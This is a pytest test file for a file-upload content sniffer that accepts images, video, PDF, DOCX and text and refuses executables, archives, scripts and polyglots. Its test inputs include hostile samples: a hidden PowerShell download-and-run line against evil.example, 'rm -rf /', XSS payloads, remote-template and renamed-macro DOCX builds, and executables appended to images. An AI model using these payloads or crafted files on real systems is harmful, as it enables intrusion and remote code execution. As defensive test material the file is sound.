"""Content sniffing: accepted formats from real bytes, refusals, polyglots, and chunk-size independence."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import docx
import pymupdf
import pytest
from PIL import Image

from pipelines.intake.sniff import ContentInspector, Detected, UnsupportedContent, detect

MIB = 1 << 20


def _feed(data: bytes, chunk: int, filename: str | None = None) -> Detected:
    inspector = ContentInspector(filename)
    for start in range(0, len(data), chunk):
        inspector.feed(data[start : start + chunk])
    return inspector.finish()


def _refusal(data: bytes, chunk: int = MIB, filename: str | None = None) -> UnsupportedContent:
    with pytest.raises(UnsupportedContent) as info:
        _feed(data, chunk, filename)
    return info.value


def _outcome(data: bytes, chunk: int, filename: str | None = None) -> Detected | str:
    try:
        return _feed(data, chunk, filename)
    except UnsupportedContent as exc:
        return exc.code


# --- real and handcrafted samples -------------------------------------------------------------------


@cache
def _image(fmt: str) -> bytes:
    """A small gradient (so compressed formats have real entropy-coded data) saved by Pillow."""
    image = Image.new("RGB", (48, 32))
    image.putdata([(x * 5, y * 7, (x * y) % 256) for y in range(32) for x in range(48)])
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


@cache
def _noise(fmt: str) -> bytes:
    """A few hundred KiB image, so GIF sub-blocks and PNG chunks span many chunks of the stream."""
    out = io.BytesIO()
    Image.frombytes("RGB", (500, 500), random.Random(8).randbytes(500 * 500 * 3)).save(out, fmt)
    return out.getvalue()


@cache
def _pdf() -> bytes:
    doc = pymupdf.open()
    doc.new_page().insert_text((72, 72), "Hello, sniffer.")
    return doc.tobytes()


@cache
def _docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("Hello, sniffer.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _with_entry(zip_bytes: bytes, name: str, data: bytes) -> bytes:
    """A copy of a ZIP with one more entry (e.g. a DOCX turned macro-enabled)."""
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as source:
        entries = {info.filename: source.read(info) for info in source.infolist()}
    return _zip({**entries, name: data})


def _box(kind: bytes, payload: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _ftyp(major: bytes, *compatible: bytes) -> bytes:
    return _box(b"ftyp", major + bytes(4) + b"".join(compatible))


def _iso(major: bytes, *compatible: bytes) -> bytes:
    return _ftyp(major, *compatible) + _box(b"moov", bytes(100)) + _box(b"mdat", bytes(range(256)) * 8)


def _ebml(doctype: bytes) -> bytes:
    def element(element_id: bytes, value: bytes) -> bytes:
        return element_id + bytes([0x80 | len(value)]) + value

    header = (
        element(b"\x42\x86", b"\x01")
        + element(b"\x42\xf7", b"\x01")
        + element(b"\x42\xf2", b"\x04")
        + element(b"\x42\xf3", b"\x08")
        + element(b"\x42\x82", doctype)
        + element(b"\x42\x87", b"\x04")
        + element(b"\x42\x85", b"\x02")
    )
    segment = b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + bytes(range(256)) * 4
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(header)]) + header + segment


def _avi() -> bytes:
    body = b"AVI " + b"LIST" + struct.pack("<I", 68) + b"hdrl" + b"avih" + struct.pack("<I", 56) + bytes(56)
    return b"RIFF" + struct.pack("<I", len(body)) + body


ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(40)
PE = b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80) + bytes(0x40) + b"PE\x00\x00" + b"\x64\x86" + bytes(18)
MACHO_64 = b"\xcf\xfa\xed\xfe" + struct.pack("<III", 0x0100000C, 0, 2) + bytes(16)
MACHO_PPC = b"\xfe\xed\xfa\xce" + struct.pack(">III", 18, 0, 2) + bytes(16)
MACHO_FAT = b"\xca\xfe\xba\xbe" + struct.pack(">IIIII", 2, 0x01000007, 3, 0x1000, 0x2000) + bytes(16)
MARKDOWN = "# Notes\n\nSee [the docs](https://example.com) — café ☕.\n".encode()

# --- accepted --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pillow_format", "fmt", "content_type"),
    [
        ("JPEG", "jpeg", "image/jpeg"),
        ("PNG", "png", "image/png"),
        ("GIF", "gif", "image/gif"),
        ("WEBP", "webp", "image/webp"),
        ("TIFF", "tiff", "image/tiff"),
        ("BMP", "bmp", "image/bmp"),
    ],
)
def test_pillow_images_are_recognised(pillow_format: str, fmt: str, content_type: str) -> None:
    assert detect(_image(pillow_format), "upload.bin") == Detected("image", content_type, fmt, None)


@pytest.mark.parametrize(
    ("data", "fmt", "content_type"),
    [
        (_iso(b"heic", b"mif1", b"heic"), "heic", "image/heic"),
        (_iso(b"mif1", b"mif1", b"heix"), "heic", "image/heic"),
        (_iso(b"avif", b"avif", b"mif1", b"miaf"), "avif", "image/avif"),
        (_iso(b"mif1", b"mif1", b"avif"), "avif", "image/avif"),  # AVIF lists the generic brands too
    ],
)
def test_heif_images_are_recognised_by_brand(data: bytes, fmt: str, content_type: str) -> None:
    assert detect(data) == Detected("image", content_type, fmt, None)


@pytest.mark.parametrize(
    ("data", "fmt", "content_type"),
    [
        (_iso(b"isom", b"isom", b"iso2", b"avc1", b"mp41"), "mp4", "video/mp4"),
        (_iso(b"mp42", b"mp42", b"isom"), "mp4", "video/mp4"),
        (_iso(b"qt  ", b"qt  "), "mov", "video/quicktime"),
        (_box(b"wide") + _box(b"mdat", bytes(5000)) + _box(b"moov", bytes(100)), "mov", "video/quicktime"),
        (_box(b"moov", bytes(100)) + _box(b"free", bytes(8)), "mov", "video/quicktime"),
        (_ebml(b"webm"), "webm", "video/webm"),
        (_ebml(b"matroska"), "mkv", "video/x-matroska"),
        (_avi(), "avi", "video/x-msvideo"),
    ],
)
def test_videos_are_recognised(data: bytes, fmt: str, content_type: str) -> None:
    assert detect(data, "clip.txt") == Detected("video", content_type, fmt, None)


def test_pdf_and_docx_are_recognised_whatever_the_filename() -> None:
    assert detect(_pdf(), "notes.md") == Detected("document", "application/pdf", "pdf", "pdf")
    assert detect(_docx(), "x.pdf").content_type == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )
    assert detect(_docx()).document_type == "docx"


def test_pdf_header_after_leading_junk_is_still_a_pdf() -> None:
    assert detect(b"\x00junk\r\n" + _pdf()).format == "pdf"


@pytest.mark.parametrize(
    ("data", "filename", "fmt"),
    [
        (b"Just some plain words.\nAnd another line.\n", "notes.txt", "txt"),
        (b"Just some plain words.\n", "notes.md", "md"),  # the extension only picks md over txt
        (b"Just some plain words.\n", "README.markdown", "md"),
        (MARKDOWN, None, "md"),
        (b"Intro\n\n```python\nprint(1)\n```\n", None, "md"),
        (b"Shopping:\n- eggs\n- milk\n- bread\n", None, "md"),
        (b"BMW and BMX are brands.\n", None, "txt"),  # "BM" alone does not make a bitmap
        (b"\xef\xbb\xbfText with a UTF-8 BOM.\n", None, "txt"),
        ("UTF-16 text, café.\n".encode("utf-16"), None, "txt"),
        (b"\xfe\xff" + "UTF-16 big endian.\n".encode("utf-16-be"), None, "txt"),
        (b"tab\tform\ffeed\r\none stray escape \x1b among " + b"plain words " * 20, None, "txt"),
    ],
)
def test_text_documents(data: bytes, filename: str | None, fmt: str) -> None:
    detected = detect(data, filename)
    assert detected.format == fmt
    assert detected.document_type == fmt
    assert detected.content_type == {"txt": "text/plain", "md": "text/markdown"}[fmt]


def test_utf8_character_split_across_chunks_is_text() -> None:
    inspector = ContentInspector()
    text = ("é" * 3000).encode()
    inspector.feed(text[:4097])  # odd split: in the middle of a two-byte character
    inspector.feed(text[4097:])
    assert inspector.finish().format == "txt"
    assert inspector.size == len(text)


def test_harmless_padding_after_end_markers_is_accepted() -> None:
    assert detect(_image("PNG") + b"\x00\x00\n").format == "png"
    assert detect(_image("GIF") + b"\n").format == "gif"
    assert detect(_image("JPEG") + bytes(64)).format == "jpeg"
    assert detect(_pdf() + b"\r\n\r\n").format == "pdf"


@pytest.mark.parametrize("seed", [0, 1, 2])
def test_random_data_after_jpeg_header_is_not_a_polyglot(seed: int) -> None:
    """False-positive guard: 20 MB of noise hits 4-byte signatures by chance; structure checks must not."""
    data = b"\xff\xd8\xff\xe0" + random.Random(seed).randbytes(20 * MIB)
    assert _feed(data, MIB).format == "jpeg"


def test_random_data_after_pdf_header_is_not_a_polyglot() -> None:
    assert _feed(b"%PDF-1.7\n" + random.Random(3).randbytes(20 * MIB), 256 * 1024).format == "pdf"


# --- refused ---------------------------------------------------------------------------------------


def test_empty_file() -> None:
    assert _refusal(b"").code == "empty_file"


@pytest.mark.parametrize(
    "data",
    [ELF, PE, b"MZ" + bytes(100), MACHO_64, MACHO_PPC, MACHO_FAT, b"\x00asm\x01\x00\x00\x00" + bytes(32)],
    ids=["elf", "pe", "bare-mz", "macho-64", "macho-ppc", "macho-fat", "wasm"],
)
def test_executables(data: bytes) -> None:
    assert _refusal(data).code == "executable"


def test_java_class_is_refused_like_a_fat_binary() -> None:
    assert _refusal(b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(64)).code == "executable"


def test_executable_is_refused_while_streaming() -> None:
    inspector = ContentInspector("photo.jpg")
    with pytest.raises(UnsupportedContent) as info:
        inspector.feed(ELF)
    assert info.value.code == "executable"
    with pytest.raises(UnsupportedContent):  # the refusal sticks
        inspector.finish()


def test_unknown_binary_is_refused_from_the_first_chunk() -> None:
    inspector = ContentInspector()
    with pytest.raises(UnsupportedContent) as info:
        inspector.feed(random.Random(4).randbytes(64 * 1024))
    assert info.value.code == "unsupported_media_type"


@pytest.mark.parametrize(
    "data",
    [
        _zip({"a.txt": b"hello"}),
        _zip({}),
        _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}),
        _zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
        gzip.compress(b"hello"),
        bz2.compress(b"hello"),
        lzma.compress(b"hello"),
        b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24),
        b"Rar!\x1a\x07\x01\x00" + bytes(24),
        b"\x28\xb5\x2f\xfd\x24\x05" + bytes(24),
        b"MSCF\x00\x00\x00\x00" + bytes(32),
        _docx() + b"trailing junk",  # the end record no longer closes the file
    ],
    ids=["zip", "empty-zip", "xlsx", "odt", "gzip", "bzip2", "xz", "7z", "rar", "zstd", "cab", "broken-docx"],
)
def test_archives(data: bytes) -> None:
    assert _refusal(data).code == "archive"


def test_tar_archive() -> None:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("hello.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    assert _refusal(out.getvalue()).code == "archive"


def test_macro_enabled_docx_is_a_script() -> None:
    docm = _with_entry(_docx(), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0macros")
    assert _refusal(docm).code == "script"


# --- DOCX parts ----------------------------------------------------------------------------------------

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VBA_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # an OLE compound file header (what vbaProject.bin is)


def _parts(zip_bytes: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as source:
        return {info.filename: source.read(info) for info in source.infolist()}


def _edited(parts: dict[str, bytes], name: str, before: bytes, insert: bytes) -> dict[str, bytes]:
    """A copy of the parts with `insert` put in front of the first `before` in one part."""
    assert before in parts[name]
    return {**parts, name: parts[name].replace(before, insert + before, 1)}


def _relationship(kind: str, target: str, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/>'.encode()


def _settings_rels(*relationships: bytes) -> bytes:
    return (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + (b"".join(relationships) + b"</Relationships>")
    )


def _renamed_vba() -> bytes:
    """vbaProject.bin under an innocent name, declared through its content type and relationship."""
    parts = _edited(
        _parts(_docx()),
        "[Content_Types].xml",
        b"</Types>",
        b'<Override PartName="/word/media/logo.png" ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    parts = _edited(
        parts,
        "word/_rels/document.xml.rels",
        b"</Relationships>",
        _relationship(VBA_RELATIONSHIP, "media/logo.png", False),
    )
    return _zip({**parts, "word/media/logo.png": OLE})


class _Unseekable(io.RawIOBase):
    """Output without tell/seek: zipfile then writes each entry's sizes in a data descriptor after its data."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, data: bytes) -> int:  # type: ignore[override]
        self.data += data
        return len(data)


def _streamed_zip(entries: dict[str, bytes]) -> bytes:
    out = _Unseekable()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return bytes(out.data)


def _with_gap(zip_bytes: bytes, gap: bytes) -> bytes:
    """Bytes slipped in before the central directory, its offset in the end record moved to match."""
    eocd = zip_bytes.rindex(b"PK\x05\x06")
    (directory,) = struct.unpack_from("<I", zip_bytes, eocd + 16)
    end = bytearray(zip_bytes[eocd:])
    struct.pack_into("<I", end, 16, directory + len(gap))
    return zip_bytes[:directory] + gap + zip_bytes[directory:eocd] + bytes(end)


@cache
def _rich_docx() -> bytes:
    """python-docx with a picture, a table, a header and an external hyperlink: what real reports hold."""
    document = docx.Document()
    document.add_heading("Inspection", level=1)
    document.sections[0].header.paragraphs[0].text = "Header"
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "cell"
    document.add_picture(io.BytesIO(_image("PNG")))
    document.part.relate_to("https://example.com/report", f"{RELS}/hyperlink", is_external=True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_real_docx_with_picture_header_and_hyperlink_is_accepted() -> None:
    assert b'TargetMode="External"' in _parts(_rich_docx())["word/_rels/document.xml.rels"]
    for chunk in (997, 65536, MIB):
        assert _feed(_rich_docx(), chunk).format == "docx"


def test_docx_with_data_descriptors_is_accepted() -> None:
    streamed = _streamed_zip(_parts(_rich_docx()))
    assert struct.unpack_from("<H", streamed, 6)[0] & 0x8  # sizes after the data, as streaming writers do
    for chunk in (997, MIB):
        assert _feed(streamed, chunk).format == "docx"


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (_renamed_vba, "script"),
        (lambda: _zip({**_parts(_docx()), "word/media/image9.png": OLE}), "script"),  # OLE bytes, no declaration
        (
            lambda: _zip(
                _edited(
                    _parts(_docx()),
                    "[Content_Types].xml",
                    b"</Types>",
                    b'<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.activeX"/>',
                )
            ),
            "script",
        ),
        (
            lambda: _zip(
                {
                    **_parts(_docx()),
                    "[Content_Types].xml": _parts(_docx())["[Content_Types].xml"].replace(
                        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
                    ),
                }
            ),
            "script",
        ),
        (lambda: _zip({**_parts(_docx()), "word/media/update.exe": PE + random.Random(9).randbytes(5000)}), "polyglot"),
        (lambda: _zip({**_parts(_docx()), "word/embeddings/tool": ELF + bytes(5000)}), "polyglot"),
        (lambda: _streamed_zip({**_parts(_docx()), "word/media/update.exe": PE + bytes(70_000)}), "polyglot"),
        (
            lambda: _zip(
                {
                    **_parts(_docx()),
                    "word/_rels/settings.xml.rels": _settings_rels(
                        _relationship(f"{RELS}/attachedTemplate", "http://evil.example/t.dotm")
                    ),
                }
            ),
            "script",
        ),
        (
            lambda: _zip(
                _edited(
                    _parts(_docx()),
                    "word/_rels/document.xml.rels",
                    b"</Relationships>",
                    _relationship(f"{RELS}/frame", "http://evil.example/frame.html"),
                )
            ),
            "script",
        ),
        (
            lambda: _zip(
                _edited(
                    _parts(_docx()),
                    "word/_rels/document.xml.rels",
                    b"</Relationships>",
                    _relationship(f"{RELS}/oleObject", "file://evil.example/share/x.xls"),
                )
            ),
            "script",
        ),
        (
            lambda: _zip(
                {
                    **_parts(_docx()),
                    "word/_rels/settings.xml.rels": _settings_rels(
                        _relationship(f"{RELS}/attachedTemplate", "&#104;ttp://evil.example/t.dotm").replace(
                            b'TargetMode="External"', b'TargetMode="&#69;xternal"'
                        )
                    ),
                }
            ),
            "script",
        ),  # character references are decoded like Word decodes them
        (lambda: _with_gap(_docx(), zlib.compress(PE)), "polyglot"),
        (lambda: _with_gap(_docx(), _zip({"word/hidden.xml": b"<x/>"})[:-22]), "polyglot"),
        (
            lambda: _zip({**_parts(_docx()), "word/_rels/x.rels": b'<!DOCTYPE x [<!ENTITY a "b">]><Relationships/>'}),
            "unsupported_media_type",
        ),
        (
            lambda: _zip({**_parts(_docx()), "[Content_Types].xml": b"<Types>" + b" " * (2 * MIB) + b"</Types>"}),
            "unsupported_media_type",
        ),
    ],
    ids=[
        "renamed-vba", "ole-bytes-only", "activex-type", "macro-enabled-main", "deflated-exe", "deflated-elf",
        "streamed-exe", "remote-template", "remote-frame", "remote-ole", "encoded-remote-template",
        "bytes-before-directory", "entry-missing-from-directory", "dtd-in-rels", "huge-content-types",
    ],
)  # fmt: skip
def test_docx_active_parts_are_refused(make: Callable[[], bytes], code: str) -> None:
    data = make()
    assert _outcome(data, 997) == _outcome(data, MIB) == code


@pytest.mark.parametrize(
    "data",
    [
        b"#!/bin/sh\nrm -rf /\n",
        b"\xef\xbb\xbf  \n#!/usr/bin/env python\nprint(1)\n",
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)">x</a></svg>',
        b"Dear diary,\ntoday I wrote <SCRIPT src=//evil.example></SCRIPT> into a text file.\n",
        b"# Title\n\n<script>alert(1)</script>\n",
    ],
    ids=["shebang", "bom-shebang", "html-script", "svg-onload", "svg-javascript-url", "text-script", "md-script"],
)
def test_scripts(data: bytes) -> None:
    assert _refusal(data, filename="notes.md").code == "script"


@pytest.mark.parametrize(
    ("filename", "data"),
    [
        ("update.hta", b"Hello, this looks like text.\n"),
        ("UPDATE.HTA", b"Hello, this looks like text.\n"),
        ("run.js", b'var shell = 1;\nshell = shell + 1;\n'),
        ("run.bat", b"calc.exe\r\n"),
        ("run.ps1", b"Get-Process | Stop-Process\n"),
        ("run.vbs", b'MsgBox "hello"\n'),
        ("link.url", b"[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n"),
        ("page.svg", b"Not even markup.\n"),
        (None, b"@echo off\r\ncalc.exe\r\n"),
        ("data.dat", b'Set shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n'),
        ("notes", b"[InternetShortcut]\r\nURL=https://evil.example/\r\n"),
        (None, b"powershell -nop -w hidden -c \"Invoke-Expression (iwr evil.example)\"\n"),
        ("reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n"),
    ],
    ids=[
        "hta", "hta-upper", "js", "bat", "ps1", "vbs", "url", "svg-name", "batch-content", "vbs-content",
        "url-content", "powershell-content", "reg-content",
    ],
)  # fmt: skip
def test_scripts_without_a_shebang(filename: str | None, data: bytes) -> None:
    assert _refusal(data, filename=filename).code == "script"


@pytest.mark.parametrize(
    ("data", "filename", "fmt"),
    [
        (b"# Events\n\n```js\nbutton.onclick = () => { one = 1 };\nif (a < b && done) run();\n```\n", "app.md", "md"),
        (b"To run it:\n\n    @echo off\n    powershell -File build.ps1\n", "howto.txt", "txt"),
        (b"# Batch files\n\n```bat\n@echo off\nset x = CreateObject(1)\n```\n", "bat.md", "md"),
        (b"Use <b>bold</b> and <kbd>Ctrl</kbd>; the one = 2 rule.\n", "notes.md", "md"),
        (b"The word javascript: is just prose here, and so is onload = later.\n", None, "txt"),
    ],
    ids=["md-js-fence", "txt-batch-lines", "md-batch-fence", "md-inline-html", "prose-mentions"],
)
def test_prose_showing_code_is_still_text(data: bytes, filename: str | None, fmt: str) -> None:
    assert detect(data, filename).format == fmt


@pytest.mark.parametrize(
    "data",
    [
        b"<!-- a harmless comment -->\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"junk line\nmore junk\n<svg/onload=alert(1)>",
        b"Hello <img src=x onerror=alert(1)> world\n",
        b"Look: <iframe src='https://evil.example'></iframe>\n",
        b"<meta http-equiv='refresh' content='0;url=https://evil.example'>\n",
        b"# Click\n\n[here](javascript:alert(1))\n",
        b'<a href="javascript:alert(1)">x</a>\n',
        b"<hta:application id='x' />\n<p>text</p>\n",
        b'<job id="x"><runat>x</runat></job>\n',
        b"plain words " * 8000 + b"<body onload=alert(1)>",  # past the head: active markup is watched everywhere
    ],
    ids=[
        "comment-then-svg", "junk-then-svg", "img-onerror", "iframe", "meta-refresh", "md-js-link", "js-href",
        "hta", "wsf-job", "late-onload",
    ],
)  # fmt: skip
def test_active_markup_anywhere_is_a_script(data: bytes) -> None:
    assert _refusal(data, filename="notes.md").code == "script"


@pytest.mark.parametrize(
    "data",
    [
        b"<!-- comment -->\n<html><p>hi</p></html>",
        b"\xef\xbb\xbf \n\n<!DOCTYPE html><p>hi</p>",
        b"a few lines\nof junk\nfirst\n<svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>",
        b"plain words " * 5000 + b"<html><p>hi</p></html>",  # inside the 64 KiB head
        ("UTF-16 first, then <html>".encode("utf-16")),
    ],
    ids=["comment-then-html", "bom-doctype", "junk-then-svg", "html-deep-in-head", "utf16-html"],
)
def test_markup_anywhere_in_the_head_is_refused(data: bytes) -> None:
    assert _refusal(data, filename="notes.txt").code == "unsupported_media_type"


@pytest.mark.parametrize(
    "data",
    [
        b"<html><script>alert(1)</script><!--\n" + _pdf(),
        b"<!-- x -->\n<svg onload=alert(1)>\n" + _pdf(),
        _pdf()[:9] + b"%<html><body>hello</body></html>\n" + _pdf()[9:],
    ],
    ids=["html-then-pdf", "svg-then-pdf", "html-in-pdf-head"],
)
def test_html_pdf_polyglots(data: bytes) -> None:
    assert _refusal(data, filename="update.hta").code == "polyglot"


@pytest.mark.parametrize(
    "data",
    [
        b"<!doctype html>\n<html><body><p>Hello</p></body></html>",
        b"  <html><p>hi</p></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
        b'<?xml version="1.0"?><note>hi</note>',
    ],
    ids=["html", "html-leading-space", "svg", "xml"],
)
def test_markup_without_script_is_unsupported(data: bytes) -> None:
    assert _refusal(data).code == "unsupported_media_type"


def test_script_tag_split_across_chunks_is_refused_while_streaming() -> None:
    inspector = ContentInspector("notes.txt")
    inspector.feed(b"plain words " * 500 + b"<scr")
    with pytest.raises(UnsupportedContent) as info:
        inspector.feed(b"IPT>alert(1)</script>\n")
    assert info.value.code == "script"


@pytest.mark.parametrize(
    "data",
    [
        b"Mostly text. " * 1000 + random.Random(5).randbytes(2000) + b"More text. " * 1000,
        b"Text with a NUL\x00 byte in it.\n",
        b"Mostly text. " * 1000 + b"\x01\x02\x03\x04" * 100 + b"\n",  # valid UTF-8, but 3% controls
        b"Latin-1 caf\xe9 is not UTF-8.\n",
        "UTF-16 without a BOM".encode("utf-16-le"),
        b"ok\n\xe2\x82",  # truncated multi-byte character at the very end
    ],
    ids=["binary-blob", "nul", "controls", "latin-1", "utf-16-no-bom", "truncated-utf8"],
)
def test_text_that_is_really_binary(data: bytes) -> None:
    assert _refusal(data, chunk=4096).code == "unsupported_media_type"


@pytest.mark.parametrize(
    "data",
    [
        random.Random(6).randbytes(3000),
        b"RIFF" + struct.pack("<I", 100) + b"WAVEfmt " + bytes(100),
        _iso(b"M4A ", b"M4A ", b"mp42", b"isom"),  # audio only
        _iso(b"crx ", b"crx "),
        _ebml(b"mka"),
        _box(b"free", bytes(16)) + _box(b"mdat", bytes(64)),  # QuickTime atoms but no movie header
        _box(b"wide") + b"\x00\x00\x00\x10junk" + bytes(8),  # unknown atom type
        b"BM" + struct.pack("<IHHII", 10_000, 0, 0, 5_000, 40) + bytes(100),  # pixel data past the end
        _image("PNG")[:33] + struct.pack(">I", 0) + b"b@d!" + bytes(4) + _image("PNG")[33:],  # chunk type
    ],
    ids=["random", "wav", "m4a", "cr3", "mka", "mov-without-moov", "mov-bad-atom", "bmp-offset", "png-corrupt"],
)
def test_unsupported_formats(data: bytes) -> None:
    assert _refusal(data).code == "unsupported_media_type"


@pytest.mark.parametrize(
    "data",
    [
        _image("JPEG") + _zip({"payload.txt": b"hello"}),
        _image("PNG") + _zip({"payload.txt": b"hello"}),
        _pdf() + _zip({"payload.txt": b"hello"}),
        _image("JPEG") + ELF + bytes(100),
        _image("JPEG") + ELF,  # executable flush with the end of the stream
        _pdf() + PE + bytes(1000),
        _iso(b"isom", b"isom") + MACHO_64,
        _image("TIFF") + MACHO_PPC,
        _image("BMP") + MACHO_FAT,
        _image("PNG") + b"hidden message",
        _image("GIF") + b"GIF data after the trailer",
        _image("WEBP") + b"RIFF data after the RIFF size",
        _image("JPEG") + b"Rar!\x1a\x07\x01\x00" + bytes(100),
        _pdf() + b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100),
        _pdf() + gzip.compress(b"payload"),
        _docx()[:-22] + PE + _docx()[-22:],
    ],
    ids=[
        "jpeg+zip", "png+zip", "pdf+zip", "jpeg+elf", "jpeg+elf-at-end", "pdf+pe", "mp4+macho",
        "tiff+macho-ppc", "bmp+macho-fat", "png+trailing", "gif+trailing", "webp+trailing", "jpeg+rar",
        "pdf+7z", "pdf+gzip", "docx-with-pe",
    ],
)  # fmt: skip
def test_polyglots(data: bytes) -> None:
    assert _refusal(data).code == "polyglot"


def test_crafted_repetition_of_signatures_is_refused_quickly() -> None:
    """Each executable-looking signature costs a structural check in Python; millions of them are refused."""
    assert _refusal(_image("JPEG") + b"\x7fELF" * 1_000_000).code == "unsupported_media_type"
    gif = _image("GIF")[:-1] + b"!\xfe" + b"\x01x" * 2_100_000 + b"\x00;"  # a comment of 1-byte sub-blocks
    assert _refusal(gif).code == "unsupported_media_type"


def test_pe_header_split_across_chunks_is_found() -> None:
    data = _pdf() + bytes(3000) + PE + bytes(5000)
    split = len(_pdf()) + 3000 + 0x40  # between MZ and its PE signature
    inspector = ContentInspector()
    inspector.feed(data[:split])
    with pytest.raises(UnsupportedContent) as info:
        inspector.feed(data[split:])
        inspector.finish()
    assert info.value.code == "polyglot"


# --- chunk-size independence -----------------------------------------------------------------------

# name: (sample, expected verdict: the format when accepted, the refusal code otherwise)
SMALL_CASES: dict[str, tuple[Callable[[], bytes], str]] = {
    "jpeg": (lambda: _image("JPEG"), "jpeg"),
    "png": (lambda: _image("PNG"), "png"),
    "gif": (lambda: _image("GIF"), "gif"),
    "bmp": (lambda: _image("BMP"), "bmp"),
    "mov": (lambda: _box(b"wide") + _box(b"mdat", bytes(3000)) + _box(b"moov", bytes(100)), "mov"),
    "webm": (lambda: _ebml(b"webm"), "webm"),
    "markdown": (lambda: MARKDOWN * 40, "md"),
    "utf16": (lambda: ("ünïcödé text\n" * 200).encode("utf-16"), "txt"),
    "jpeg+zip": (lambda: _image("JPEG") + _zip({"a.txt": b"hello"}), "polyglot"),
    "png+elf": (lambda: _image("PNG") + ELF, "polyglot"),
    "gif+trailing": (lambda: _image("GIF") + b"payload", "polyglot"),
    "text+script": (lambda: b"x" * 4090 + b"<script>", "script"),
    "elf": (lambda: ELF, "executable"),
    "html": (lambda: b"<html>" + b" " * 5000 + b"<script>alert(1)</script></html>", "script"),
    "html-late-in-head": (lambda: b"words " * 10_000 + b"<html><p>x</p></html>", "unsupported_media_type"),
    "svg-after-comment": (lambda: b"<!-- c -->" + b" " * 5000 + b"<svg onload=alert(1)>", "script"),
    "handler-past-head": (lambda: b"words " * 11_000 + b"<div\n  title='x'\n  onclick='y'>", "script"),
    "batch": (lambda: b"rem setup\r\n" * 500 + b"@echo off\r\n", "script"),
    "html+pdf": (lambda: b"<html><body>x</body></html>\n" + _pdf(), "polyglot"),
    "random": (lambda: random.Random(7).randbytes(5000), "unsupported_media_type"),
}
LARGER_CASES: dict[str, tuple[Callable[[], bytes], str]] = {
    "docx": (_docx, "docx"),
    "pdf": (_pdf, "pdf"),
    "pdf+pe": (lambda: _pdf() + bytes(70_000) + PE + bytes(300_000), "polyglot"),
    "long-text": (lambda: "Ligne numéro un, avec des accents.\n".encode() * 30_000, "txt"),
    "big-gif": (lambda: _noise("GIF"), "gif"),
    "big-png": (lambda: _noise("PNG"), "png"),
}


def _verdict(data: bytes, chunk: int) -> str:
    outcome = _outcome(data, chunk)
    return outcome if isinstance(outcome, str) else outcome.format


@pytest.mark.parametrize("chunk", [1, 7, 4096, MIB])
@pytest.mark.parametrize("case", sorted(SMALL_CASES))
def test_same_outcome_whatever_the_chunk_size(case: str, chunk: int) -> None:
    make, expected = SMALL_CASES[case]
    data = make()
    assert _verdict(data, chunk) == expected
    assert _outcome(data, chunk) == _outcome(data, len(data))


@pytest.mark.parametrize("chunk", [997, 65536, MIB])
@pytest.mark.parametrize("case", sorted(LARGER_CASES))
def test_same_outcome_whatever_the_chunk_size_on_larger_files(case: str, chunk: int) -> None:
    make, expected = LARGER_CASES[case]
    data = make()
    assert _verdict(data, chunk) == expected
    assert _outcome(data, chunk) == _outcome(data, len(data))


def test_signature_positions_match_a_plain_search() -> None:
    """The word-wise search finds exactly what bytes.find finds: every alignment, overlaps, the window's edges."""
    from pipelines.intake.sniff import _positions

